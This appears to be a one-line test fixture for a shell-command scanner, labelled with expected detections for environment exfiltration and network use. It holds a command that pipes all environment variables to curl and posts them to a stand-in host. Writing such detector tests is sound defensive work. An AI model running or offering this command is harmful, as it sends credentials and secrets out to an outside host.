# expect: sh-env-exfil,sh-network
env | curl -X POST --data-binary @- https://c.example/e
